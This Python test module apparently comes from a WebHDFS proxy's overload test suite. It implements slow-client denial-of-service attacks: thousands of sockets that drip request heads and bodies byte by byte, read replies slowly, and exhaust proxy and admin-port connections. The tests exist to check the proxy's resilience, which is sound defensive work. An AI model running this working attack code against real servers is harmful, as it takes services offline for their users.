"""Findings 11 and 12, and thousands of slow clients.

A crowd is plain sockets in one loop: asyncio's streams would cost the attacker more than its target.
"""

import asyncio
import socket
import time
from collections.abc import Callable
from contextlib import ExitStack
from dataclasses import dataclass
from typing import Final

from tests.http_client import HttpClient, webhdfs
from tests.overload import places
from tests.overload.attack import Aim, Tally

CROWD: Final = 5_000
_MAX_CONNECTIONS: Final = 4 * CROWD
"""The total number of connections of a crowd, replacements of cut ones included."""

_SLICE: Final = 50
_ROUND_S: Final = 3.0
"""Seconds in which each member of a crowd acts once."""

_GATHER_S: Final = 0.06
"""Seconds between the opening of two slices: the attack is slow clients, not a flood of connections."""

_SMALL_BUFFER: Final = 4096
_READERS: Final = 32
_READERS_ADDRESSES: Final = 2
_SIP_BYTES: Final = 1024
_SIP_EVERY_S: Final = 0.5

_DRIPPED_HEAD: Final = webhdfs("GET", places.PRESENT[0], "GETFILESTATUS", extra="&a=" + "x" * 4_000)
_DRIPPED_BODY: Final = (
    b"PUT /webhdfs/v1/data/carol/slow?op=MKDIRS&user.name=carol HTTP/1.1\r\n"
    b"Host: nncache\r\nContent-Length: 1000000\r\n\r\n"
)
_HITS: Final = webhdfs("GET", places.PRESENT[0], "GETFILESTATUS") * 8


@dataclass(slots=True)
class _Member:
    """One connection of a crowd, and the number of rounds in which it acted."""

    connection: socket.socket
    rounds: int = 0

    def send(self, data: bytes) -> None:
        """Send as much as the kernel accepts."""
        self.connection.send(data)

    def read(self, size: int) -> None:
        """Read available data, `size` bytes at most.

        Raises:
            ConnectionResetError: the other side has closed.
        """
        try:
            if not self.connection.recv(size):
                raise ConnectionResetError
        except BlockingIOError:
            pass


Act = Callable[[_Member], None]


async def _crowd(
    address: str, tally: Tally, act: Act, *, size: int = CROWD, receive_bytes: int | None = None
) -> None:
    """Open `size` connections, let each act once per `_ROUND_S` for ever, and replace those that are cut."""
    host, _, port = address.rpartition(":")
    with ExitStack() as closing:

        def open_one() -> _Member:
            connection = closing.enter_context(socket.socket())
            if receive_bytes is not None:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
            connection.bind((places.ATTACKERS[tally.connections % len(places.ATTACKERS)], 0))
            connection.setblocking(False)
            connection.connect_ex((host, int(port)))
            tally.connections += 1
            return _Member(connection)

        members: list[_Member] = []
        while len(members) < size:
            members += (open_one() for _ in range(_SLICE))
            await asyncio.sleep(_GATHER_S)
        while True:
            began = time.monotonic()
            for number, member in enumerate(members):
                try:
                    act(member)
                    member.rounds += 1
                except BlockingIOError:
                    pass
                except OSError:
                    member.connection.close()
                    if tally.connections < _MAX_CONNECTIONS:
                        members[number] = open_one()
                if number % _SLICE == 0:
                    await asyncio.sleep(max(0.0, began + _ROUND_S * number / size - time.monotonic()))


async def drip_heads(aim: Aim, tally: Tally) -> None:
    """Send heads byte by byte."""

    def act(member: _Member) -> None:
        member.read(_SIP_BYTES)
        member.send(_DRIPPED_HEAD[member.rounds : member.rounds + 1])

    await _crowd(aim.proxy, tally, act)


async def drip_bodies(aim: Aim, tally: Tally) -> None:
    """Send the heads of calls that are forwarded with their bodies, then the bodies byte by byte."""

    def act(member: _Member) -> None:
        member.read(_SIP_BYTES)
        member.send(b"x" if member.rounds else _DRIPPED_BODY)

    await _crowd(aim.proxy, tally, act)


async def read_slowly(aim: Aim, tally: Tally) -> None:
    """Request eight hits at a time and read a few bytes of the replies."""

    def act(member: _Member) -> None:
        member.read(256)
        member.send(_HITS)
        tally.requests += 8

    await _crowd(aim.proxy, tally, act, receive_bytes=_SMALL_BUFFER)


async def hold_connections(aim: Aim, tally: Tally) -> None:
    """Hold more connections than the proxy accepts, and replace those that are cut."""
    await _crowd(aim.proxy, tally, lambda member: member.read(_SIP_BYTES), size=1_000)


async def silent_admin(aim: Aim, tally: Tally) -> None:
    """Hold connections to the admin port in the same way."""
    await _crowd(aim.admin, tally, lambda member: member.read(_SIP_BYTES), size=1_000)


async def slow_listings(aim: Aim, tally: Tally) -> None:
    """Request a long listing and read it at 2 KB/s, on twice as many connections as lead to the NameNode."""

    async def reader(number: int) -> None:
        source = places.ATTACKERS[number % _READERS_ADDRESSES]
        while True:
            client = HttpClient(aim.proxy, source, receive_buffer_bytes=_SMALL_BUFFER)
            try:
                await client.send(webhdfs("GET", places.LARGE, "LISTSTATUS"))
                tally.requests += 1
                await _sip(await client.connect())
            except OSError:
                await asyncio.sleep(_SIP_EVERY_S)
            finally:
                client.hang_up()

    async with asyncio.TaskGroup() as tasks:
        for number in range(_READERS):
            tasks.create_task(reader(number))


async def _sip(replies: asyncio.StreamReader) -> None:
    """Read a little at a time until the other side closes."""
    part = await replies.read(_SIP_BYTES)
    while part:
        await asyncio.sleep(_SIP_EVERY_S)
        part = await replies.read(_SIP_BYTES)
